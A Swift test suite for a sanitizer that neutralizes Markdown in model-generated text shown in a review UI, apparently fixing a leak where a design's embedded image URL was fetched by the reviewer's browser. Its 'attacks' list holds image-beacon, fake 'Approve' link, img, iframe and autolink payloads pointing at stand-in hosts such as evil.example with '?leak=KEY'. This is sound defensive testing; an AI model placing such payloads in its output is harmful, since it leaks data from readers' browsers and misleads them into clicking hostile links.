import Engine
import Foundation
import Testing

/// Model and test text in the UI's Markdown: no image, link, autolink or HTML from it, and nothing that leaves a
/// code fence. Before, a design with `![](http://host/pixel?leak=…)` was fetched by the reviewer's browser.
@Suite("Markdown from model text")
struct MarkdownTextTests {
    static let attacks = [
        "![](http://127.0.0.1:9/pixel?leak=KEY)", "[Approve](http://evil.example/approve)", "<img src=\"http://127.0.0.1:9/x\">",
        "<http://127.0.0.1:9/auto>", "see https://127.0.0.1:9/bare and www.evil.example", "mail me@evil.example",
        "![x][ref]\n\n[ref]: http://127.0.0.1:9/ref", "<iframe src=//127.0.0.1:9/f></iframe>",
    ]

    @Test(arguments: attacks)
    func nothingLinksOrEmbeds(attack: String) {
        // What is left once the escaped characters are taken out must hold nothing Markdown would act on.
        let out = MarkdownText.neutralized("# Design\n\nText " + attack + " more\n").replacingOccurrences(of: "\\[", with: "").replacingOccurrences(of: "\\]", with: "")
        for active in ["![", "](", "<img", "<http", "<iframe", "]:", "://", "www.", "][ref]"] {
            #expect(!out.contains(active), "\(active) survived in \(out)")
        }
        let cell = MarkdownText.cell(attack)
        for active in ["![", "](", "<img", "<http", "<iframe", "]:", "://", "www.", "][", "e@"] {
            #expect(!cell.contains(active), "\(active) survived in the cell \(cell)")
        }
        #expect(cell.replacingOccurrences(of: "\u{200B}", with: "") == attack.replacingOccurrences(of: "\n", with: " "))
    }

    @Test func codeAndFormattingStay() {
        let text = "# Title\n\n- **bold** and `a[0](x)` in code\n\n```python\nlink = \"![](http://x)\"\n```\n\nafter"
        #expect(MarkdownText.neutralized(text) == "# Title\n\n- **bold** and `a[0](x)` in code\n\n```python\nlink = \"![](http://x)\"\n```\n\nafter")
    }

    @Test func anUnclosedFenceOrSpanDoesNotHideWhatFollows() {
        #expect(MarkdownText.neutralized("a ` ![x](http://h)") == "a \\` !\\[x\\](http:\\/\\/h)")
        // A fence's info string is plain text.
        #expect(MarkdownText.neutralized("```![x](http://h)\ncode\n```").hasPrefix("```\\!\\[x\\]\\(http\\:\\/\\/h\\)\n"))
    }

    @Test func fencesAreLongerThanAnyRunInside() {
        let content = "a\n````\n```` ![x](http://h)\n"
        let block = MarkdownText.fenced(content)
        #expect(block == "`````\n" + content + "`````")
    }

    @Test func plainEscapesEverything() {
        #expect(MarkdownText.plain("src/[a](b).py\nx") == "src\\/\\[a\\]\\(b\\)\\.py x")
        #expect(MarkdownText.plain("<b>&") == "&lt;b&gt;&amp;")
    }
}
